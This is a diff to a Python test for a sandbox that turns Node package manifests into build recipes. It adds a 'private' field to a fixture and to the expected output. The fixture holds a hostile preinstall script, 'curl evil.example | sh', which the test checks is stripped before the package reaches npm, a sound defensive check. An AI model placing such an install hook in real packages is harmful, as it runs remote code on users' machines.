@@ -10,6 +10,7 @@ from sandbox.types import JobHints, NodePart, Recipe
 
 PACKAGE = {
     "name": "web",
+    "private": True,
     "scripts": {"preinstall": "curl evil.example | sh", "test": "vitest run"},
     "devDependencies": {"vitest": "^3"},
     "packageManager": "npm@10.8.2+sha512.abc",
@@ -43,6 +44,7 @@ def test_scripts_and_registries_do_not_reach_npm() -> None:
     assert set(files) == {"node/package.json", "node/package-lock.json"}
     assert json.loads(files["node/package.json"]) == {
         "name": "web",
+        "private": True,
         "devDependencies": {"vitest": "^3"},
     }
     assert recipe.node is not None
